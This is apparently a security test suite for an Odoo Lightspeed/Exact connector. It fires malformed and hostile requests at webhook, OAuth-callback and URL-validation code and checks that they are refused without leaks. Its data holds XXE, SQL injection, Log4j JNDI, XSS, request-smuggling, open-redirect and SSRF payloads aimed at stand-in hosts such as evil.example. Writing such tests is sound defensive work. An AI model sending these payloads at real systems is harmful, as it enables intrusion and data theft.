"""What anybody can reach is attacked: nothing without a signature, nothing told."""

import gzip
import hashlib
import itertools
import re
import socket
import statistics
import time
from urllib.parse import quote, urlsplit

from odoo.exceptions import ValidationError
from odoo.tests import new_test_user
from odoo.tools import mute_logger

from odoo.addons.lightspeed_exact_connector.clients.errors import BadRequest
from odoo.addons.lightspeed_exact_connector.clients.exact_webhooks import content_text
from odoo.addons.lightspeed_exact_connector.clients.wire import checked_url
from odoo.addons.lightspeed_exact_connector.const import (
    HOOKS_ROUTE,
    OAUTH_CALLBACK_ROUTE,
    VIES_URL_PARAMETER,
)

from sandbox.exact import demo as exact_demo
from sandbox.lightspeed.webhooks import sign
from tests.addon.connector_case import GROUPS, SECRET
from tests.addon.webhook_case import BODY, WebhookCase

REFUSED = {400, 403, 404, 405, 411, 413, 414, 415, 431, 501, 505}
TELLS = re.compile(
    rb"Traceback|File \"|psycopg|odoo\.|site-packages|werkzeug|\.py\b|SELECT |19\.0",
    re.IGNORECASE,
)
# None of these is signed; blank ones are left out where Exact may post them.
BODIES = (
    b"null",
    b"[]",
    b'"x"',
    b"0",
    b"\0",
    b"\xff\xfe\xfd",
    b"{",
    b"{" * 50_000,
    b"[" * 200_000,
    b'{"a":' * 20_000,
    b'{"order":{"id":' + b"9" * 50_000 + b"}}",
    b'{"order":{"id":"17\\u0000"}}',
    b"\xef\xbb\xbf{}",
    b'{"Content":{"Topic":"SalesEntries"},"HashCode":""}',
    b'{"Content":{},"Content":{"Action":"Delete"},"HashCode":"' + b"0" * 64 + b'"}',
    b'{"Content":{"Division":1},"HashCode":' + b"[" * 10_000,
    b'{"Content":"{}","HashCode":null}',
    b"db=postgres&login=admin&password=admin",
    b'--x\r\nContent-Disposition: form-data; name="f"; filename="../x"\r\n\r\na\r\n--x',
    gzip.compress(BODY),
    gzip.compress(b"0" * 10_000_000),
    b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    b"'; DROP TABLE lightspeed_shop; --",
    BODY,
)
HEADERS = (
    {},
    {"Content-Type": "application/json"},
    {"Content-Type": "application/x-www-form-urlencoded"},
    {"Content-Type": "multipart/form-data; boundary=x"},
    {"Content-Type": "application/json; charset=utf-16"},
    {"Content-Type": "\x00"},
    {"Content-Encoding": "gzip"},
    {"X-HTTP-Method-Override": "GET"},
    {"X-HTTP-Method": "DELETE"},
    {"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"},
    {"X-Odoo-Database": "postgres"},
    {"Cookie": "session_id=" + "a" * 84},
    {"Authorization": "Bearer " + "a" * 40},
    {"Authorization": "Basic YWRtaW46YWRtaW4="},
    {"X-Event": "orders/updated", "X-Order-Id": "17\x00"},
    {"Expect": "100-continue-not"},
    {"X-Long": "a" * 8000},
)
PATHS = (
    "{key}/",
    "{key}/x",
    "{key};x",
    "{key}%00",
    "{key}%20",
    "{key}%0d%0aSet-Cookie:%20a=b",
    "./{key}/..",
    "../{other}/{key}",
    "%2e%2e/{other}/{key}",
    "..%2f{key}",
    "//{key}",
    "",
    "/",
    "%",
    "%ff%fe",
    "é",
    "*",
    "' OR 1=1 --",
    "{{7*7}}",
    "${{jndi:ldap://evil.example/a}}",
    "a" * 5000,
    "{upper}",
    "{key}x",
    "{short}",
)
QUIET = ("werkzeug", "odoo.http", "odoo.service.server")
METHODS = ("GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "POSTX", "post")


class PublicCase(WebhookCase):
    def setUp(self):
        super().setUp()
        self.tried = 0

    def send(self, method, path, headers=(), body=b"", *, raw=None):
        """Send bytes as they are and return status, header lines and body."""
        parts = urlsplit(self.base_url())
        lines = [f"{method} {path} HTTP/1.1"]
        names = {name.lower() for name, _value in headers}
        if "host" not in names:
            lines.append(f"Host: {parts.netloc}")
        if body and not names & {"content-length", "transfer-encoding"}:
            lines.append(f"Content-Length: {len(body)}")
        lines += [f"{name}: {value}" for name, value in headers]
        lines += ["Connection: close", "", ""]
        sent = raw or "\r\n".join(lines).encode("utf-8", "replace") + body
        self.tried += 1
        with socket.create_connection((parts.hostname, parts.port), timeout=20) as sock:
            try:
                sock.sendall(sent)
                sock.shutdown(socket.SHUT_WR)
            except OSError:
                # It was refused before all of it was sent.
                pass
            answer = b""
            try:
                while piece := sock.recv(65536):
                    answer += piece
            except OSError:
                pass
        head, _blank, content = answer.partition(b"\r\n\r\n")
        status = re.match(rb"HTTP/1\.[01] (\d{3})", head)
        return int(status[1]) if status else 0, head, content

    def assert_tells_nothing(self, answer, allowed=frozenset(REFUSED)):
        status, head, content = answer
        # 0: the connection was closed without a word.
        self.assertIn(status, allowed | {0}, content[:300])
        self.assertNotIn(b"set-cookie", head.lower())
        self.assertIsNone(TELLS.search(content), content[:500])
        self.assertNotIn(self.cr.dbname.encode(), content)
        self.assertNotIn(b"evil.example", head.lower())

    def hooked(self):
        """Return a link whose shop and administration both take webhooks."""
        link = self.make_webhooks()
        administration = link.administration_id
        administration.app_id.webhook_secret = exact_demo.WEBHOOK_SECRET
        administration.use_webhooks = True
        self.assertTrue(administration.webhook_key)
        return link


class TestWebhooksAttacked(PublicCase):
    def attack(self, vendor, key, number, signatures):
        """Send all that is bad to an endpoint.

        :return: how many were tried
        """
        before, path = self.tried, f"{HOOKS_ROUTE}/{vendor}/{key}"
        other = "exact" if vendor == "lightspeed" else "lightspeed"
        # Without a body it is Exact's own test of the address, and does nothing.
        blank = REFUSED | {200} if vendor == "exact" else REFUSED
        with self.open_to_all(), mute_logger(*QUIET):
            for body, headers in itertools.product(BODIES, HEADERS):
                rows = {"X-Shop-Id": number, **headers}
                with self.subTest(body=body[:40], headers=headers):
                    answer = self.send("POST", path, rows.items(), body)
                    self.assert_tells_nothing(answer)
            for signature in signatures:
                rows = [("X-Shop-Id", number), *signature]
                with self.subTest(signature=signature):
                    answer = self.send("POST", path, rows, BODY)
                    self.assert_tells_nothing(answer)
            for method in METHODS:
                with self.subTest(method=method):
                    answer = self.send(method, path, [("X-Shop-Id", number)])
                    self.assert_tells_nothing(answer, blank)
            for template in PATHS:
                tail = template.format(
                    key=key, other=other, upper=key.swapcase(), short=key[:-1]
                )
                for query in ("", "?debug=assets", "?db=postgres", "?x=%00"):
                    with self.subTest(path=template, query=query):
                        where = (
                            f"{HOOKS_ROUTE}/{vendor}/{quote(tail, safe='%/;*')}{query}"
                        )
                        answer = self.send("POST", where, [("X-Shop-Id", number)], BODY)
                        self.assert_tells_nothing(answer, REFUSED | {301, 308})
            for raw in self.broken(path):
                with self.subTest(raw=raw[:120]):
                    self.assert_tells_nothing(self.send("", "", raw=raw), blank)
        self.assertFalse(self.hints())
        return self.tried - before

    def broken(self, path):
        """Requests that are none."""
        line = f"POST {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".encode()
        chunked = b"Transfer-Encoding: chunked\r\n"
        yield line + b"Content-Length: 100\r\n\r\nshort"
        yield line + b"Content-Length: -1\r\n\r\nx"
        yield line + b"Content-Length: 1e3\r\n\r\nx"
        yield line + b"Content-Length: 99999999999999999999\r\n\r\nx"
        yield line + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nxy"
        yield line + chunked + b"\r\nZZ\r\nx\r\n0\r\n\r\n"
        yield line + chunked + b"\r\n-1\r\nx\r\n0\r\n\r\n"
        yield line + chunked + b"\r\nFFFFFFFFFFFFFFFF\r\nx"
        yield line + chunked + b"\r\n5\r\nab"
        yield line + chunked + b"Content-Length: 3\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
        yield (
            line + chunked + b"Transfer-Encoding: identity\r\n\r\n3\r\nabc\r\n0\r\n\r\n"
        )
        yield line + b"X-Signature\r\n\r\n"
        yield line + b"X-Signature: a\r\n b\r\n\r\n"
        yield line + b"\0: \0\r\n\r\n"
        yield f"POST {path} HTTP/9.9\r\n\r\n".encode()
        elsewhere = f"POST http://evil.example{path} HTTP/1.1\r\n"
        yield elsewhere.encode() + b"Host: evil.example\r\n"
        yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"
        yield b"\0" * 100

    def test_the_webhooks_of_a_shop(self):
        link = self.hooked()
        shop = link.shop_id
        right = sign(BODY, SECRET)
        plain = hashlib.md5(BODY, usedforsecurity=False).hexdigest()
        before = hashlib.md5(SECRET.encode() + BODY, usedforsecurity=False).hexdigest()
        signatures = [
            [("X-Signature", text)]
            for text in (
                "",
                plain,
                before,
                right.upper(),
                right[:-1],
                right + "0",
                right[:-1] + ("0" if right[-1] != "0" else "1"),
                "0" * 32,
                "é" * 32,
                f'"{right}"',
                hashlib.sha256(BODY + SECRET.encode()).hexdigest(),
                sign(b"", SECRET),
                sign(BODY, ""),
            )
        ]
        signatures += [
            [("X-Signature", right), ("X-Shop-Id", "999")],
            [("X-Signature", "0" * 32), ("X-Signature", right)],
            [("X-Signature", right), ("X-Signature", "0" * 32)],
        ]
        count = self.attack("lightspeed", shop.webhook_key, shop.remote_id, signatures)
        self.assertGreater(count, 500)
        print(f"\nwebhooks of a shop: {count} bad inputs")  # noqa: T201
        # And it works for who is meant.
        self.assertEqual(self.post(shop).status_code, 200)
        self.assertEqual(self.named(), [("order", "17")])

    def test_the_webhooks_of_an_administration(self):
        administration = self.hooked().administration_id
        key = administration.webhook_key
        body = self.box.exact.control_webhook_body(
            exact_demo.CLIENT_ID, exact_demo.MAIN, "SalesEntries", "Update", ""
        )["body"].encode()
        content, code = content_text(body)
        forged = (
            body.replace(code.encode(), b"0" * 64),
            body.replace(code.encode(), b""),
            body.replace(code.encode(), code.encode()[:-1]),
            body.replace(content, content.replace(b"Update", b"Delete")),
            body.replace(content, content.replace(b"{", b"{ ", 1)),
            body + body,
            body[:-1],
            b"[" + body + b"]",
            body.replace(b'"Content"', b'"content"'),
        )
        before = self.tried
        with self.open_to_all(), mute_logger(*QUIET):
            for text in forged:
                with self.subTest(body=text[:60]):
                    answer = self.send("POST", f"{HOOKS_ROUTE}/exact/{key}", (), text)
                    self.assertEqual(answer[0], 403)
                    self.assert_tells_nothing(answer)
        count = self.tried - before
        # An empty body on the right address is the vendor's own test (7.7).
        with self.open_to_all():
            for blank in (b"", b"  \r\n"):
                answer = self.send("POST", f"{HOOKS_ROUTE}/exact/{key}", (), blank)
                self.assertEqual((answer[0], answer[2]), (200, b""))
        count += self.attack_exact(key)
        self.assertGreater(count, 450)
        print(f"\nwebhooks of an administration: {count} bad inputs")  # noqa: T201

    def attack_exact(self, key):
        # Nothing of an empty body changes anything, with whatever header it comes.
        since = self.box.calls.last
        self.env.invalidate_all()
        moved = self.env["exact.webhook"].search([]).mapped("received_at")
        wrong_methods = self.tried
        count = self.attack("exact", key, "1", [])
        self.assertGreater(self.tried, wrong_methods)
        self.env.invalidate_all()
        self.assertEqual(
            self.env["exact.webhook"].search([]).mapped("received_at"), moved
        )
        self.assertEqual(self.box.calls.last, since)
        return count

    def test_the_question_whether_an_address_leads_here(self):
        before = self.tried
        bad = (
            "",
            "x",
            "0" * 31,
            "0" * 33,
            "G" * 32,
            "0" * 5000,
            "%00" * 32,
            "..%2f",
            "é" * 16,
            "{{7*7}}",
            "' OR 1=1 --",
            "0" * 32 + "%0a",
            "0" * 32 + "/x",
        )
        with self.open_to_all(), mute_logger(*QUIET):
            for nonce, headers in itertools.product(bad, HEADERS):
                path = f"{HOOKS_ROUTE}/ping/{quote(nonce, safe='%/')}"
                with self.subTest(nonce=nonce[:40], headers=headers):
                    answer = self.send("GET", path, headers.items())
                    self.assert_tells_nothing(answer)
            for method in ("PUT", "DELETE", "PATCH", "TRACE", "POST", "GETX"):
                path = f"{HOOKS_ROUTE}/ping/{'0' * 32}"
                with self.subTest(method=method):
                    self.assert_tells_nothing(self.send(method, path))
            status, head, content = self.send("GET", path)
        self.assertEqual(status, 200)
        self.assertNotIn(b"set-cookie", head.lower())
        self.assertRegex(content, rb"^[0-9a-f]{64}$")
        count = self.tried - before - 1
        self.assertGreater(count, 200)
        print(f"\nping: {count} bad inputs")  # noqa: T201

    def test_an_unknown_address_costs_what_a_wrong_signature_costs(self):
        """The same is read of the database; no clock is needed to see it."""
        link = self.hooked()
        shop, administration = link.shop_id, link.administration_id
        for vendor, key in (
            ("lightspeed", shop.webhook_key),
            ("exact", administration.webhook_key),
        ):
            counts = {}
            for known, used in ((True, key), (False, "A" * 43)):
                self.post_to(vendor, used)
                with self.counted_queries() as counter:
                    self.post_to(vendor, used)
                counts[known] = counter[0]
            # One more: which other one is looked at in its place.
            self.assertLessEqual(abs(counts[True] - counts[False]), 1, (vendor, counts))

    def post_to(self, vendor, key):
        self.env.flush_all()
        response = self.url_open(
            f"{HOOKS_ROUTE}/{vendor}/{key}",
            data=BODY,
            method="POST",
            headers={"X-Signature": "0" * 32, "Content-Type": "application/json"},
        )
        self.assertEqual(response.status_code, 403)

    def counted_queries(self):
        return _Counter(self.cr)

    def timing(self, vendor, key, times=60):
        """Return the median of how long an answer takes; for measuring by hand."""
        taken = []
        for _each in range(times):
            started = time.perf_counter()
            self.post_to(vendor, key)
            taken.append(time.perf_counter() - started)
        return statistics.median(taken)


class _Counter:
    def __init__(self, cr):
        self.cr, self.found = cr, [0]

    def __enter__(self):
        self.start = self.cr.sql_log_count
        return self.found

    def __exit__(self, *_error):
        self.found[0] = self.cr.sql_log_count - self.start


class TestCallbackAttacked(PublicCase):
    def setUp(self):
        super().setUp()
        self.connection = self.make_connection()
        self.manager = new_test_user(self.env, "manager1", groups=f"{GROUPS}manager")

    def states(self):
        """Return states that are not valid for the manager."""
        connection = self.connection.with_user(self.manager)
        right = connection._sign_state()
        other = new_test_user(self.env, "manager2", groups=f"{GROUPS}manager")
        yield from (
            "",
            "x",
            "=",
            "AQ",
            "AQ==",
            "A" * 5000,
            right[:-4],
            right[4:],
            right.swapcase(),
            right[:20] + "A" + right[21:],
            connection.with_user(other)._sign_state(),
            "\x00",
            "é",
            "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
            "https://evil.example",
            "//evil.example",
            "javascript:alert(1)",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "' OR 1=1 --",
            "[1,2,3]",
            '{"id":1}',
        )

    def test_nothing_is_consented_without_a_valid_state(self):
        since = self.box.calls.last
        token = self.tokens()
        codes = ("x", "", "<script>alert(1)</script>", "a" * 5000, "\x00", "é")
        extras = (
            {},
            {"error": "<img src=x onerror=alert(1)>"},
            {"redirect": "https://evil.example", "next": "//evil.example"},
            {"debug": "assets", "db": "postgres", "connection_id": "1"},
        )
        self.authenticate("manager1", "manager1")
        with mute_logger(*QUIET):
            for state, code, extra in itertools.product(self.states(), codes, extras):
                with self.subTest(state=state[:40], code=code[:20], extra=extra):
                    answer = self.back({"state": state, "code": code, **extra})
                    self.assertEqual(answer.status_code, 400)
                    self.assert_page(answer)
        self.assertEqual(self.box.calls.last, since)
        self.assertEqual(self.tokens(), token)
        self.assertGreater(self.tried, 500)
        print(f"\ncallback: {self.tried} bad inputs")  # noqa: T201

    def back(self, params, method="GET", headers=None):
        self.tried += 1
        self.env.flush_all()
        path = OAUTH_CALLBACK_ROUTE
        query = "&".join(f"{name}={quote(str(v))}" for name, v in params.items())
        return self.url_open(
            f"{path}?{query}", allow_redirects=False, method=method, headers=headers
        )

    def assert_page(self, answer):
        self.assertNotIn("<script>alert(1)", answer.text)
        self.assertNotIn("onerror=", answer.text)
        self.assertNotIn("evil.example", answer.text)
        self.assertNotIn("Traceback", answer.text)
        self.assertNotIn("Location", answer.headers)
        self.assertNotIn(f'"{self.cr.dbname}"', answer.text)

    def tokens(self):
        self.env.invalidate_all()
        rows = self.env["exact.token"].search([])
        return [(row.connection_id.id, row.access_token) for row in rows]

    def test_a_state_is_good_for_one_consent(self):
        """A state that was seen in a log brings nobody else's consent in."""
        connection = self.connection.with_user(self.manager)
        # The last consent was before the second of the next one.
        self.later(2)
        state, later = connection._sign_state(), connection._sign_state()
        self.later(2)
        # That moved the last consent as well: only what is signed now fits.
        self.authenticate("manager1", "manager1")
        self.assertEqual(self.back({"state": state, "code": "x"}).status_code, 400)
        state = connection._sign_state()
        code = self.consent_code()
        self.assertEqual(self.back({"state": state, "code": code}).status_code, 303)
        before = self.tokens()
        for old in (state, later):
            answer = self.back({"state": old, "code": self.consent_code()})
            self.assertEqual(answer.status_code, 400)
        self.assertEqual(self.tokens(), before)

    def consent_code(self):
        return self.box.exact.control_consent(
            exact_demo.CLIENT_ID,
            exact_demo.USER_NL,
            self.connection.app_id.redirect_uri,
            "state",
        )["code"]

    def test_the_way_back_leads_nowhere_else(self):
        state = self.connection.with_user(self.manager)._sign_state()
        self.authenticate("manager1", "manager1")
        for host in ("evil.example", "evil.example:443", "127.0.0.1@evil.example"):
            with self.subTest(host=host):
                answer = self.back(
                    {"state": state, "error": "access_denied"},
                    headers={"X-Forwarded-Host": host},
                )
                self.assertEqual(answer.status_code, 303)
                place = urlsplit(answer.headers["Location"])
                self.assertIn(place.netloc, ("", urlsplit(self.base_url()).netloc))
                self.assertEqual(
                    place.path, f"/odoo/exact.connection/{self.connection.id}"
                )
        app = self.connection.app_id
        self.assertTrue(app.redirect_uri.startswith(self.base_url()))

    def test_only_a_browser_that_is_logged_in_and_gets_comes_back(self):
        state = self.connection.with_user(self.manager)._sign_state()
        since = self.box.calls.last
        for method in ("POST", "PUT", "DELETE", "PATCH"):
            with self.subTest(method=method), mute_logger("odoo.http"):
                answer = self.back({"state": state, "code": "x"}, method)
                self.assertIn(answer.status_code, (303, 400, 405))
        answer = self.back({"state": state, "code": "x"})
        self.assertEqual(answer.status_code, 303)
        place = urlsplit(answer.headers["Location"])
        self.assertEqual(place.path, "/web/login")
        self.assertIn(place.netloc, ("", urlsplit(self.base_url()).netloc))
        self.assertEqual(self.box.calls.last, since)


# Addresses to which credentials would go, and which are not what they look like.
BAD_ADDRESSES = (
    "http://127.0.0.1.evil.example",
    "http://localhost.evil.example",
    "http://localhost@evil.example",
    "http://127.0.0.1@evil.example",
    "http://127.0.0.1:80@evil.example",
    "https://start.exactonline.nl@evil.example",
    "https://user:word@api.example",
    "http://evil.example#@127.0.0.1",
    "http://evil.example?@127.0.0.1",
    "http://127.0.0.1\\@evil.example",
    "https://api.example\\.evil.example",
    "http://2130706433",
    "http://0x7f000001",
    "http://0177.0.0.1",
    "http://127.1",
    "http://0.0.0.0",
    "http://[::ffff:127.0.0.1]",
    "http://[::]",
    "http://[fe80::1]",
    "http://10.0.0.1",
    "http://169.254.169.254",
    "http://localhost.",
    "http://local\thost",
    "http://127.0.0.1 evil.example",
    "https://api.exa\r\nmple",
    "https://api.example/\x7f",
    "http://127.0.0.1%2eevil.example",
    "http://１２７.0.0.1",
    "http://ⓛocalhost.evil.example",
    "http://api.example",
    "ftp://127.0.0.1",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "//api.example",
    "api.example",
    "https://",
    "https:///path",
    "https://[",
    "https://[::1",
    "https://api.example:port",
    "https://api.example:99999",
    "https://api.example?x=1",
    "https://api.example#x",
)
GOOD_ADDRESSES = (
    "https://api.example",
    "https://api.example:8443",
    "http://127.0.0.1:8069",
    "http://127.9.9.9",
    "http://[::1]:8069",
    "http://localhost:1234",
)


class TestAddresses(PublicCase):
    def test_an_address_is_https_or_this_very_machine(self):
        for url in BAD_ADDRESSES:
            with self.subTest(url=url), self.assertRaises(BadRequest):
                checked_url(url)
        for url in GOOD_ADDRESSES:
            self.assertEqual(checked_url(url), url)

    def test_no_field_takes_a_bad_address(self):
        shop = self.make_shop()
        app = self.env["exact.app"].create(
            {"name": "App", "client_id": "x", "client_secret": "y"}
        )
        for url in BAD_ADDRESSES:
            for record, name, value in (
                (shop, "api_url", url),
                (app, "host_url", url),
                (shop, "invoice_pdf_url", f"{url}/{{number}}"),
            ):
                if name == "invoice_pdf_url" and url.endswith(("?x=1", "path")):
                    # An address of files may have a query.
                    continue
                with (
                    self.subTest(field=name, url=url),
                    self.assertRaises(ValidationError),
                    self.cr.savepoint(),
                ):
                    record.write({name: value})
                self.env.invalidate_all()
        for url in GOOD_ADDRESSES:
            shop.api_url = app.host_url = url
            shop.invoice_pdf_url = f"{url}/{{number}}"

    def test_vies_is_asked_nowhere_else(self):
        self.env["ir.config_parameter"].set_param(
            VIES_URL_PARAMETER, "http://127.0.0.1.evil.example"
        )
        since = self.box.calls.last
        with self.assertRaises(BadRequest):
            self.env["vies.check"]._client()
        self.assertEqual(self.box.calls.last, since)
